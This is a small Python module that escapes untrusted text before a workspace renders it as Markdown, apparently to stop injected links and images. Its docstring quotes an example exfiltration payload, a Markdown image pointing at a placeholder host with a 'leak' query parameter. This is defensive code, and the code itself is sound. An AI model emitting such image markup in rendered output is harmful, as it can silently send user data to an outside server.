"""Untrusted text inside the Markdown the workspace renders.

Library text, model answers, file names and endpoint messages are data: a document holding
``![q](http://host/p.png?leak=x)`` or ``<img src=...>`` must show those characters, never make the
browser fetch anything. Only the Markdown the views write themselves (emphasis, headings, tables) is
rendered; everything else goes through :func:`literal` first. (The chat renders HTML, not Markdown:
it escapes with :func:`html.escape`, see :mod:`ui.views.ask`.)
"""

from __future__ import annotations

import re
import string

_PUNCTUATION = re.compile(f"([{re.escape(string.punctuation)}])")


def literal(text: str) -> str:
    """``text`` as Markdown that renders exactly as written: every ASCII punctuation character is
    backslash-escaped (CommonMark allows it for all of them), so no link, image, HTML tag, entity,
    emphasis, list, table cell or autolink can start."""
    return _PUNCTUATION.sub(r"\\\1", text)
